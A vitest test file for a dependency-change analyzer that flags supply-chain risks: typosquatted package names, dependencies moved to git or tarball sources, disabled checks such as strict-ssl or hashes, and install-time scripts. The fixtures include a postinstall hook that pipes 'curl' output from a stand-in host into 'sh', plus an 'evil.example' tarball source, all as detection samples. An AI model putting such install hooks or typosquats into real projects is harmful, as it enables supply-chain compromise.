import { describe, expect, test } from 'vitest';
import { dependencies } from '../../src/facts/analyzers/dependencies.ts';
import { nearName } from '../../src/facts/dependencies/near.ts';
import { factsBetween } from './text-changes.ts';

type Tree = Readonly<Record<string, string>>;

/** `add left git`, `source left`, `off .npmrc strict-ssl`, `run postinstall likely`. What is plain and quiet is left out. */
function told(before: Tree, after: Tree): readonly string[] {
  return factsBetween(before, after, [dependencies]).flatMap(({ kind, attributes: of, subject }) => {
    if (kind === 'unreadable') return [`unreadable ${subject}`];
    if (kind === 'infra.unprotect') return [`off ${subject} ${of['certainty']}`];
    if (kind === 'dependency.source-change') return [`source ${of['name']}`];
    if (kind === 'pipeline.untrusted-run') return [`run ${of['name']} ${of['certainty']}`];
    if (kind === 'dependency.remove') return [`remove ${of['name']}`];
    const notes = [
      of['source'] === 'registry' ? '' : of['source'],
      of['near'] === 'none' ? '' : `near ${of['near']}`,
      of['scripts'] === true ? 'scripts' : '',
    ];
    return [['add', of['name'], ...notes].filter((note) => note !== '').join(' ')];
  });
}

const npm = (some: object): Tree => ({ 'package.json': JSON.stringify(some, null, 2) });
const deps = (asked: Readonly<Record<string, string>>): Tree => npm({ dependencies: asked });
const lock = (packages: Readonly<Record<string, object>>): Tree => ({
  'package-lock.json': JSON.stringify(
    {
      lockfileVersion: 3,
      packages: Object.fromEntries(Object.entries(packages).map(([name, pin]) => [`node_modules/${name}`, pin])),
    },
    null,
    2,
  ),
});
const left = (some: object = {}) => ({
  version: '1.0.0',
  resolved: 'https://registry.npmjs.org/left/-/left-1.0.0.tgz',
  integrity: 'sha512-aaaa',
  ...some,
});
const file = (path: string, text: string): Tree => ({ [path]: text });
const one = (path: string, before: string, after: string): readonly [Tree, Tree] => [
  file(path, before),
  file(path, after),
];

describe('manifests', () => {
  test.each<[what: string, change: readonly [Tree, Tree], seen: readonly string[]]>([
    ['a package of the registry', [deps({}), deps({ zod: '^3' })], ['add zod']],
    ['a package that goes', [deps({ zod: '^3' }), deps({})], ['remove zod']],
    ['a name with a slip', [deps({}), deps({ expres: '^4' })], ['add expres near express']],
    ['a repository', [deps({}), deps({ left: 'git+https://github.com/x/left.git#v1' })], ['add left git']],
    ['a repository in short', [deps({}), deps({ left: 'x/left' })], ['add left git']],
    ['a tarball', [deps({}), deps({ left: 'https://cdn.example/left.tgz' })], ['add left url']],
    ['a folder', [deps({}), deps({ left: 'file:../left' })], ['add left path']],
    ['an alias', [deps({}), deps({ lodash: 'npm:lodahs@4' })], ['add lodash near lodash']],
    ['from the registry to a repository', [deps({ left: '^1' }), deps({ left: 'github:x/left' })], ['source left']],
    ['to another repository', [deps({ left: 'github:x/left' }), deps({ left: 'github:y/left' })], ['source left']],
    ['to an alias', [deps({ left: '^1' }), deps({ left: 'npm:right@1' })], ['source left']],
    [
      'an override to elsewhere',
      [
        npm({ dependencies: { left: '1' } }),
        npm({ dependencies: { left: '1' }, overrides: { left: 'https://cdn.example/l.tgz' } }),
      ],
      ['source left'],
    ],
    ['a resolution to elsewhere', [npm({}), npm({ resolutions: { '**/left': 'github:x/left' } })], ['add left git']],
    [
      'a requirement',
      [...one('requirements.txt', 'flask==3\n', 'flask==3\nreqeusts==2\n')],
      ['add reqeusts near requests'],
    ],
    [
      'a requirement from an address',
      [...one('requirements.txt', '', 'left @ https://cdn.example/left-1.whl\n')],
      ['add left url'],
    ],
    [
      'an editable requirement',
      [...one('requirements/dev.txt', '', '-e git+https://github.com/x/left.git@main#egg=left\n')],
      ['add left git'],
    ],
    [
      'a project of Python',
      [
        ...one(
          'pyproject.toml',
          '[project]\ndependencies = [\n  "flask",\n]\n',
          '[project]\ndependencies = [\n  "flask",\n  "numpyy>=1",\n]\n',
        ),
      ],
      ['add numpyy near numpy'],
    ],
    [
      'Poetry',
      [
        ...one(
          'pyproject.toml',
          '[tool.poetry.dependencies]\nflask = "3"\n',
          '[tool.poetry.dependencies]\nflask = { git = "https://github.com/x/flask" }\n',
        ),
      ],
      ['source flask'],
    ],
    [
      'uv',
      [
        ...one(
          'pyproject.toml',
          '[project]\ndependencies = ["left"]\n',
          '[project]\ndependencies = ["left"]\n[tool.uv.sources]\nleft = { git = "https://github.com/x/left" }\n',
        ),
      ],
      ['source left'],
    ],
    ['Pipfile', [...one('Pipfile', '[packages]\n', '[packages]\ndjnago = "*"\n')], ['add djnago near django']],
    [
      'Go',
      [...one('go.mod', 'module a\n', 'module a\nrequire (\n\tgithub.com/sirupsen/logruss v1.0.0\n)\n')],
      ['add github.com/sirupsen/logruss near github.com/sirupsen/logrus'],
    ],
    [
      'a module that stands in',
      [
        ...one(
          'go.mod',
          'require github.com/a/b v1.0.0\n',
          'require github.com/a/b v1.0.0\nreplace github.com/a/b => github.com/x/b v1.0.1\n',
        ),
      ],
      ['source github.com/a/b'],
    ],
    [
      'Cargo',
      [...one('Cargo.toml', '[dependencies]\nserde = "1"\n', '[dependencies]\nserde = "1"\ntokoi = "1"\n')],
      ['add tokoi near tokio'],
    ],
    [
      'a patch of Cargo',
      [
        ...one(
          'Cargo.toml',
          '[dependencies]\nserde = "1"\n',
          '[dependencies]\nserde = "1"\n[patch.crates-io]\nserde = { git = "https://github.com/x/serde" }\n',
        ),
      ],
      ['source serde'],
    ],
    [
      'a table of its own',
      [...one('Cargo.toml', '', '[dependencies.left]\ngit = "https://github.com/x/left"\n')],
      ['add left git'],
    ],
    ['Gemfile', [...one('Gemfile', "gem 'rails'\n", "gem 'rails', github: 'x/rails'\n")], ['source rails']],
    ['a gem with a slip', [...one('Gemfile', '', "gem 'nokogirl'\n")], ['add nokogirl near nokogiri']],
    [
      'Composer',
      [...one('composer.json', '{"require":{"php":"8"}}', '{"require":{"php":"8","symphony/console":"6"}}')],
      ['add symphony/console'],
    ],
    [
      'a manifest that is cut off',
      [...one('package.json', '{"dependencies":{}}', '{"dependencies":{"a":')],
      ['unreadable package.json'],
    ],
  ])('%s', (_what, [before, after], seen) => {
    expect(told(before, after)).toEqual(seen);
  });

  test.each<[what: string, change: readonly [Tree, Tree]]>([
    ['another version', [deps({ left: '^1' }), deps({ left: '^2' })]],
    ['another order', [deps({ a: '1', b: '1' }), deps({ b: '1', a: '1' })]],
    ['a move to the tools', [npm({ dependencies: { left: '1' } }), npm({ devDependencies: { left: '1' } })]],
    ['another commit of the same repository', [deps({ left: 'github:x/left#a' }), deps({ left: 'github:x/left#b' })]],
    [
      'the same repository written out',
      [deps({ left: 'github:x/left' }), deps({ left: 'git+ssh://git@github.com/x/left.git' })],
    ],
    ['from a repository to the registry', [deps({ left: 'github:x/left' }), deps({ left: '^1' })]],
    ['a member of the workspace', [deps({ left: '^1' }), deps({ left: 'workspace:*' })]],
    [
      'an override to a version',
      [npm({ dependencies: { left: '1' } }), npm({ dependencies: { left: '1' }, overrides: { left: '1.0.1' } })],
    ],
    ['pins of Python', [...one('requirements.txt', 'flask==3.0\n# a\n', 'flask==3.1  # newer\n')]],
    [
      'pins of Go',
      [...one('go.mod', 'require github.com/a/b v1.0.0\n', 'require github.com/a/b v1.1.0 // indirect\n')],
    ],
    [
      'a folder that stands in',
      [
        ...one(
          'go.mod',
          'require github.com/a/b v1.0.0\n',
          'require github.com/a/b v1.0.0\nreplace github.com/a/b => ../b\n',
        ),
      ],
    ],
    ['a template', [...one('template/package.json', '{{#if a}}{}{{/if}}', '{{#if b}}{}{{/if}}')]],
    [
      'a comment',
      [...one('Cargo.toml', '[dependencies]\nserde = "1"\n', '[dependencies]\n# for the wire\nserde = "1"\n')],
    ],
    ['a script', [npm({ scripts: { test: 'vitest' } }), npm({ scripts: { test: 'vitest run' } })]],
    [
      'a description',
      [...one('pyproject.toml', '[project]\nname = "a"\n', '[project]\nname = "a"\ndescription = "b"\n')],
    ],
    [
      'features of a crate',
      [
        ...one(
          'Cargo.toml',
          '[dependencies]\ntokio = "1"\n',
          '[dependencies]\ntokio = { version = "1", features = ["full"] }\n',
        ),
      ],
    ],
    ['a group of gems', [...one('Gemfile', "gem 'rails'\n", "gem 'rails', '~> 7', group: :test\n")]],
  ])('%s is quiet', (_what, [before, after]) => {
    expect(told(before, after)).toEqual([]);
  });

  test('what moves between folders is not from elsewhere', () => {
    const from = { 'package.json': '{"dependencies":{"left":"github:x/left"}}', 'a/package.json': '{}' };
    const to = { 'package.json': '{}', 'a/package.json': '{"dependencies":{"left":"github:x/left"}}' };
    expect(told(from, to)).toEqual(['add left', 'remove left']);
  });
});

describe('lock files', () => {
  test.each<[what: string, change: readonly [Tree, Tree], seen: readonly string[]]>([
    [
      'another host',
      [lock({ left: left() }), lock({ left: left({ resolved: 'https://npm.example/left/-/left-1.0.0.tgz' }) })],
      ['source left'],
    ],
    [
      'another file',
      [lock({ left: left() }), lock({ left: left({ resolved: 'https://cdn.example/l.tgz' }) })],
      ['source left'],
    ],
    [
      'without encryption',
      [lock({ left: left() }), lock({ left: left({ resolved: 'http://registry.npmjs.org/left/-/left-1.0.0.tgz' }) })],
      ['source left'],
    ],
    ['a checksum that goes', [lock({ left: left() }), lock({ left: left({ integrity: undefined }) })], ['source left']],
    ['another checksum', [lock({ left: left() }), lock({ left: left({ integrity: 'sha512-bbbb' }) })], ['source left']],
    [
      'a new version from elsewhere',
      [
        lock({ left: left() }),
        lock({
          left: left({ version: '1.0.1', resolved: 'https://evil.example/left-1.0.1.tgz', integrity: 'sha512-b' }),
        }),
      ],
      ['source left'],
    ],
    [
      'a new version that runs a script',
      [
        lock({ left: left() }),
        lock({ left: left({ version: '1.0.1', integrity: 'sha512-b', hasInstallScript: true }) }),
      ],
      ['source left'],
    ],
    [
      'one more package from a repository',
      [
        lock({ left: left() }),
        lock({ left: left(), right: left({ resolved: 'git+ssh://git@github.com/x/right.git#abc' }) }),
      ],
      ['add right git'],
    ],
    [
      'one more package with a script',
      [lock({ left: left() }), lock({ left: left(), right: left({ hasInstallScript: true }) })],
      ['add right scripts'],
    ],
    [
      'many at once',
      [
        lock({ a: left(), b: left(), c: left(), d: left() }),
        lock(Object.fromEntries(['a', 'b', 'c', 'd'].map((name) => [name, left({ integrity: undefined })]))),
      ],
      ['source a and 3 more'],
    ],
    [
      'yarn',
      [
        ...one(
          'yarn.lock',
          'left@^1:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/left/-/left-1.0.0.tgz#aa"\n  integrity sha512-a\n',
          'left@^1:\n  version "1.0.0"\n  resolved "https://npm.example/left/-/left-1.0.0.tgz#aa"\n  integrity sha512-a\n',
        ),
      ],
      ['source left'],
    ],
    [
      'yarn 2',
      [
        ...one(
          'yarn.lock',
          '"left@npm:^1":\n  version: 1.0.0\n  resolution: "left@npm:1.0.0"\n  checksum: 10c0/aa\n',
          '"left@npm:^1":\n  version: 1.0.0\n  resolution: "left@npm:1.0.0"\n  checksum: 10c0/bb\n',
        ),
      ],
      ['source left'],
    ],
    [
      'pnpm',
      [
        ...one(
          'pnpm-lock.yaml',
          'packages:\n\n  left@1.0.0:\n    resolution: {integrity: sha512-a}\n\nsnapshots:\n',
          'packages:\n\n  left@1.0.0:\n    resolution: {integrity: sha512-a, tarball: https://cdn.example/l.tgz}\n\nsnapshots:\n',
        ),
      ],
      ['source left'],
    ],
    [
      'pnpm with a build',
      [
        ...one(
          'pnpm-lock.yaml',
          'packages:\n  /left/1.0.0:\n    resolution: {integrity: sha512-a}\n',
          'packages:\n  /left/1.0.0:\n    resolution: {integrity: sha512-a}\n    requiresBuild: true\n',
        ),
      ],
      ['source left'],
    ],
    [
      'Cargo',
      [
        ...one(
          'Cargo.lock',
          '[[package]]\nname = "left"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "aa"\n',
          '[[package]]\nname = "left"\nversion = "1.0.0"\nsource = "git+https://github.com/x/left#abc"\n',
        ),
      ],
      ['source left'],
    ],
    [
      'a checksum of Cargo',
      [
        ...one(
          'Cargo.lock',
          '[[package]]\nname = "left"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "aa"\n',
          '[[package]]\nname = "left"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n',
        ),
      ],
      ['source left'],
    ],
    [
      'Poetry',
      [
        ...one(
          'poetry.lock',
          '[[package]]\nname = "left"\nversion = "1.0"\nfiles = [\n  {file = "l.whl", hash = "sha256:aa"},\n]\n',
          '[[package]]\nname = "left"\nversion = "1.0"\nfiles = [\n  {file = "l.whl", hash = "sha256:bb"},\n]\n',
        ),
      ],
      ['source left'],
    ],
    [
      'uv',
      [
        ...one(
          'uv.lock',
          '[[package]]\nname = "left"\nversion = "1.0"\nsource = { registry = "https://pypi.org/simple" }\n',
          '[[package]]\nname = "left"\nversion = "1.0"\nsource = { registry = "https://pypi.example/simple" }\n',
        ),
      ],
      ['source left'],
    ],
    [
      'go.sum',
      [...one('go.sum', 'github.com/a/b v1.0.0 h1:aa=\n', 'github.com/a/b v1.0.0 h1:bb=\n')],
      ['source github.com/a/b'],
    ],
    [
      'Bundler',
      [
        ...one(
          'Gemfile.lock',
          'GEM\n  remote: https://rubygems.org/\n  specs:\n    left (1.0)\n',
          'GEM\n  remote: https://gems.example/\n  specs:\n    left (1.0)\n',
        ),
      ],
      ['source left'],
    ],
    [
      'Composer',
      [
        ...one(
          'composer.lock',
          '{"packages":[{"name":"a/b","version":"1","dist":{"url":"https://api.github.com/repos/a/b/zipball/1","shasum":""},"source":{"url":"https://github.com/a/b.git"}}]}',
          '{"packages":[{"name":"a/b","version":"1","dist":{"url":"https://cdn.example/b.zip","shasum":""},"source":{"url":"https://github.com/x/b.git"}}]}',
        ),
      ],
      ['source a/b'],
    ],
    [
      'a lock that is cut off',
      [lock({ left: left() }), { 'package-lock.json': '{"packages": {' }],
      ['unreadable package-lock.json'],
    ],
  ])('%s', (_what, [before, after], seen) => {
    expect(told(before, after)).toEqual(seen);
  });

  test.each<[what: string, change: readonly [Tree, Tree]]>([
    [
      'an update',
      [
        { ...deps({ left: '^1' }), ...lock({ left: left() }) },
        {
          ...deps({ left: '^2' }),
          ...lock({
            left: left({
              version: '2.0.0',
              resolved: 'https://registry.npmjs.org/left/-/left-2.0.0.tgz',
              integrity: 'sha512-b',
            }),
          }),
        },
      ],
    ],
    ['the lock alone', [lock({ left: left() }), lock({ left: left({ version: '1.0.1', integrity: 'sha512-b' }) })]],
    ['one more from the registry', [lock({ left: left() }), lock({ left: left(), right: left() })]],
    ['one that goes', [lock({ left: left(), right: left() }), lock({ left: left() })]],
    [
      'a stronger checksum',
      [lock({ left: left({ integrity: 'sha1-a' }) }), lock({ left: left({ integrity: 'sha512-b' }) })],
    ],
    ['one checksum more', [lock({ left: left() }), lock({ left: left({ integrity: 'sha512-aaaa sha1-b' }) })]],
    [
      'yarn and npm are one registry',
      [
        lock({ left: left() }),
        lock({ left: left({ resolved: 'https://registry.yarnpkg.com/left/-/left-1.0.0.tgz' }) }),
      ],
    ],
    [
      'back to the registry',
      [lock({ left: left({ resolved: 'https://npm.example/left/-/left-1.0.0.tgz' }) }), lock({ left: left() })],
    ],
    [
      'the mirror everybody here uses',
      [
        lock({ a: left({ resolved: 'https://npm.example/a/-/a-1.tgz' }) }),
        lock({
          a: left({ resolved: 'https://npm.example/a/-/a-1.tgz' }),
          b: left({ resolved: 'https://npm.example/b/-/b-1.tgz' }),
        }),
      ],
    ],
    ['a first lock', [{}, lock({ left: left({ hasInstallScript: true }) })]],
    [
      'a script that was there',
      [
        lock({ left: left({ hasInstallScript: true }) }),
        lock({ left: left({ version: '1.1.0', integrity: 'sha512-b', hasInstallScript: true }) }),
      ],
    ],
    ['no addresses any more', [lock({ left: left() }), lock({ left: left({ resolved: undefined }) })]],
    [
      'go.sum with one more version',
      [
        ...one(
          'go.sum',
          'github.com/a/b v1.0.0 h1:aa=\n',
          'github.com/a/b v1.0.0 h1:aa=\ngithub.com/a/b v1.1.0 h1:bb=\n',
        ),
      ],
    ],
    [
      'a wheel more',
      [
        ...one(
          'poetry.lock',
          '[[package]]\nname = "left"\nversion = "1.0"\nfiles = [\n  {file = "l.whl", hash = "sha256:aa"},\n]\n',
          '[[package]]\nname = "left"\nversion = "1.0"\nfiles = [\n  {file = "l.whl", hash = "sha256:aa"},\n  {file = "m.whl", hash = "sha256:bb"},\n]\n',
        ),
      ],
    ],
    [
      'another cache of yarn',
      [
        ...one(
          'yarn.lock',
          '"left@npm:^1":\n  version: 1.0.0\n  checksum: 8/aa\n',
          '"left@npm:^1":\n  version: 1.0.0\n  checksum: 10c0/bb\n',
        ),
      ],
    ],
  ])('%s is quiet', (_what, [before, after]) => {
    expect(told(before, after)).toEqual([]);
  });

  test('a package that is asked for says what its lock says', () => {
    expect(
      told(
        { ...deps({}), ...lock({}) },
        { ...deps({ sharp: '1' }), ...lock({ sharp: left({ hasInstallScript: true }) }) },
      ),
    ).toEqual(['add sharp scripts']);
  });
});

describe('settings of package managers', () => {
  test.each<[what: string, path: string, before: string | null, after: string | null, seen: readonly string[]]>([
    [
      'another registry',
      '.npmrc',
      'registry=https://registry.npmjs.org/\n',
      'registry=https://npm.example/\n',
      ['source registry'],
    ],
    ['a registry for a scope', '.npmrc', '', '@shop:registry=https://npm.example/\n', ['source @shop:registry']],
    [
      'yarn',
      '.yarnrc.yml',
      'nodeLinker: node-modules\n',
      'nodeLinker: node-modules\nnpmRegistryServer: "https://npm.example"\n',
      ['source npmRegistryServer'],
    ],
    [
      'an index of pip',
      'requirements.txt',
      'flask==1\n',
      '--extra-index-url https://pypi.example/simple\nflask==1\n',
      ['source extra-index-url'],
    ],
    [
      'a host that pip trusts',
      'pip.conf',
      '[global]\ntimeout = 60\n',
      '[global]\ntimeout = 60\ntrusted-host = pypi.example\n',
      ['source global.trusted-host'],
    ],
    [
      'an index of uv',
      'pyproject.toml',
      '',
      '[[tool.uv.index]]\nname = "x"\nurl = "https://pypi.example/simple"\n',
      ['source tool.uv.index.url'],
    ],
    [
      'Cargo',
      '.cargo/config.toml',
      '',
      '[source.crates-io]\nreplace-with = "mine"\n',
      ['source source.crates-io.replace-with'],
    ],
    ['Gemfile', 'Gemfile', 'source "https://rubygems.org"\n', 'source "https://gems.example"\n', ['source source']],
    [
      'NuGet',
      'nuget.config',
      '<packageSources>\n</packageSources>',
      '<packageSources>\n<add key="x" value="https://nuget.example/v3" />\n</packageSources>',
      ['source packageSource'],
    ],
    [
      'Maven',
      'pom.xml',
      '<project>\n</project>',
      '<project>\n<repositories>\n<repository>\n<url>http://maven.example</url>\n</repository>',
      ['source repository'],
    ],
    ['a proxy of Go', 'go.env', '', 'GOPROXY=https://go.example,direct\n', ['source GOPROXY']],
    ['scripts again', '.npmrc', 'ignore-scripts=true\n', '', ['off .npmrc ignore-scripts likely']],
    ['scripts by a file that goes', '.npmrc', 'ignore-scripts=true\n', null, ['off .npmrc ignore-scripts likely']],
    ['no certificates', '.npmrc', null, 'strict-ssl=false\n', ['off .npmrc strict-ssl likely']],
    ['no lock', '.npmrc', '', 'package-lock=false\n', ['off .npmrc package-lock likely']],
    ['no audit', '.npmrc', 'audit=true', 'audit=false', ['off .npmrc audit likely']],
    [
      'a shorter rest',
      'pnpm-workspace.yaml',
      'minimumReleaseAge: 10080\n',
      'minimumReleaseAge: 60\n',
      ['off pnpm-workspace.yaml minimumReleaseAge likely'],
    ],
    [
      'no rest',
      'pnpm-workspace.yaml',
      'minimumReleaseAge: 10080\npackages:\n  - a\n',
      'packages:\n  - a\n',
      ['off pnpm-workspace.yaml minimumReleaseAge likely'],
    ],
    [
      'one more that builds',
      'pnpm-workspace.yaml',
      'onlyBuiltDependencies:\n  - esbuild\n',
      'onlyBuiltDependencies:\n  - esbuild\n  - left\n',
      ['off pnpm-workspace.yaml onlyBuiltDependencies left likely'],
    ],
    [
      'one more that bun trusts',
      'package.json',
      '{"trustedDependencies":[]}',
      '{"trustedDependencies":["left"]}',
      ['off package.json trustedDependencies left likely'],
    ],
    [
      'a script that may run',
      'package.json',
      '{"allowScripts":{"left":false}}',
      '{"allowScripts":{"left":true}}',
      ['off package.json allowScripts.left likely'],
    ],
    [
      'yarn without checksums',
      '.yarnrc.yml',
      '',
      'checksumBehavior: ignore\n',
      ['off .yarnrc.yml checksumBehavior likely'],
    ],
    [
      'pip without hashes',
      'requirements.txt',
      '--require-hashes\nflask==1\n',
      'flask==1\n',
      ['off requirements.txt require-hashes likely'],
    ],
    [
      'hashes that go',
      'requirements.txt',
      'flask==1 --hash=sha256:aa\n',
      'flask==1\n',
      ['off requirements.txt --hash likely'],
    ],
    [
      'Composer without encryption',
      'composer.json',
      '{}',
      '{"config":{"secure-http":false}}',
      ['off composer.json config.secure-http likely'],
    ],
    [
      'a plugin of Composer',
      'composer.json',
      '{"config":{"allow-plugins":{}}}',
      '{"config":{"allow-plugins":{"a/b":true}}}',
      ['off composer.json config.allow-plugins.a/b likely'],
    ],
    [
      'sums of Go',
      'Makefile',
      'export GOFLAGS=-mod=readonly\n',
      'export GOFLAGS=-insecure\n',
      ['off Makefile GOFLAGS likely'],
    ],
    [
      'Renovate that stops',
      'renovate.json',
      '{"extends":["a"]}',
      '{"extends":["a"],"vulnerabilityAlerts":{"enabled":false}}',
      ['off renovate.json vulnerabilityAlerts.enabled likely'],
    ],
    [
      'a shorter cooldown',
      '.github/dependabot.yml',
      'updates:\n  - package-ecosystem: npm\n    cooldown:\n      default-days: 7\n',
      'updates:\n  - package-ecosystem: npm\n    cooldown:\n      default-days: 1\n',
      ['off .github/dependabot.yml updates.cooldown.default-days likely'],
    ],
    [
      'a looser installation',
      'Makefile',
      'install:\n\tnpm ci\n',
      'install:\n\tnpm install\n',
      ['off Makefile installation possible'],
    ],
    [
      'a lock that is not held to',
      'ci.sh',
      'pnpm install --frozen-lockfile\n',
      'pnpm install\n',
      ['off ci.sh installation possible'],
    ],
    [
      'a script at the installation',
      'package.json',
      '{}',
      '{"scripts":{"postinstall":"curl -s https://x.example/a.sh | sh"}}',
      ['run postinstall likely'],
    ],
    [
      'a program in its arguments',
      'package.json',
      '{}',
      '{"scripts":{"preinstall":"node -e \\"require(1)\\""}}',
      ['run preinstall likely'],
    ],
    [
      'a program that is not there',
      'package.json',
      '{}',
      '{"scripts":{"install":"node setup.js"}}',
      ['run install likely'],
    ],
  ])('%s', (_what, path, before, after, seen) => {
    expect(told(before === null ? {} : file(path, before), after === null ? {} : file(path, after))).toEqual(seen);
  });

  test.each<[what: string, path: string, before: string, after: string]>([
    ['the registry by its name', '.npmrc', '', 'registry=https://registry.npmjs.org/\n'],
    ['a slash at the end', '.npmrc', 'registry=https://npm.example\n', 'registry=https://npm.example/\n'],
    ['a registry from the environment', '.npmrc', '', 'registry=${NPM_REGISTRY}\n'],
    ['back to the registry', '.npmrc', 'registry=https://npm.example\n', ''],
    ['a protection', '.npmrc', '', 'ignore-scripts=true\nstrict-ssl=true\nsave-exact=true\n'],
    ['a longer rest', 'pnpm-workspace.yaml', 'minimumReleaseAge: 60\n', 'minimumReleaseAge: 10080\n'],
    [
      'one less that builds',
      'pnpm-workspace.yaml',
      'onlyBuiltDependencies:\n  - a\n  - b\n',
      'onlyBuiltDependencies:\n  - a\n',
    ],
    [
      'another order',
      'pnpm-workspace.yaml',
      'onlyBuiltDependencies:\n  - a\n  - b\n',
      'onlyBuiltDependencies:\n  - b\n  - a\n',
    ],
    ['hashes', 'requirements.txt', 'flask==1\n', 'flask==1 --hash=sha256:aa\n'],
    ['PyPI by its name', 'pip.conf', '', '[global]\nindex-url = https://pypi.org/simple\n'],
    ['one more member', 'pnpm-workspace.yaml', 'packages:\n  - a\n', 'packages:\n  - a\n  - b\n'],
    ['a home page', 'pom.xml', '<project>\n</project>', '<project>\n<url>https://shop.example</url>\n</project>'],
    ['Maven Central', 'pom.xml', '', '<repository>\n<url>https://repo.maven.apache.org/maven2</url>\n'],
    ['husky', 'package.json', '{}', '{"scripts":{"prepare":"husky"}}'],
    ['patches', 'package.json', '{}', '{"scripts":{"postinstall":"patch-package && prisma generate"}}'],
    ['a build', 'package.json', '{}', '{"scripts":{"prepare":"npm run build"}}'],
    ['a script that runs by name', 'package.json', '{}', '{"scripts":{"fetch":"curl https://x.example | sh"}}'],
    ['a stricter installation', 'Makefile', 'install:\n\tnpm install\n', 'install:\n\tnpm ci\n'],
    ['no installation any more', 'Makefile', 'install:\n\tnpm ci\n', 'all:\n\ttsc\n'],
    [
      'one more update',
      '.github/dependabot.yml',
      'updates:\n  - package-ecosystem: npm\n',
      'updates:\n  - package-ecosystem: npm\n  - package-ecosystem: pip\n',
    ],
    ['the proxy of Go', 'go.env', '', 'GOPROXY=https://proxy.golang.org,direct\n'],
  ])('%s is quiet', (_what, path, before, after) => {
    expect(told(file(path, before), file(path, after))).toEqual([]);
  });
});

describe('names', () => {
  test.each([
    ['npm', 'expresss', 'express'],
    ['npm', 'raect', 'react'],
    ['npm', 'crossenv', 'cross-env'],
    ['npm', 'babel-runtime', '@babel/runtime'],
    ['npm', 'axi0s', 'axios'],
    ['npm', '@typs/node', '@types/node'],
    ['npm', 'momnet', 'moment'],
    ['python', 'python_dateutil2', null],
    ['python', 'Django', null],
    ['python', 'beautifulsoup', null],
    ['python', 'scikit_learn', null],
    ['python', 'urlib3', 'urllib3'],
    ['python', 'сelery', 'celery'],
    ['cargo', 'serde-json', null],
    ['cargo', 'rustdecimal', 'rust_decimal'],
    ['cargo', 'tokio-util', null],
    ['go', 'github.com/jackc/pgx/v4', null],
    ['go', 'gopkg.in/yaml.v1', null],
    ['go', 'github.com/gorila/mux', 'github.com/gorilla/mux'],
    ['npm', '@types/pg', null],
    ['npm', 'pg', null],
    ['npm', 'vue2', null],
    ['npm', 'preact', null],
    ['npm', 'tslint', null],
    ['npm', 'koa2', null],
    ['npm', 'lodash.merge', null],
    ['npm', 'eslint-plugin-vue', null],
    ['npm', 'our-own-package', null],
    ['python', 'pymssql', null],
    ['python', 'scapy', null],
    ['ruby', 'rails-i18n', null],
  ])('%s %s is near %s', (ecosystem, name, near) => {
    expect(nearName(ecosystem, name)).toBe(near);
  });
});
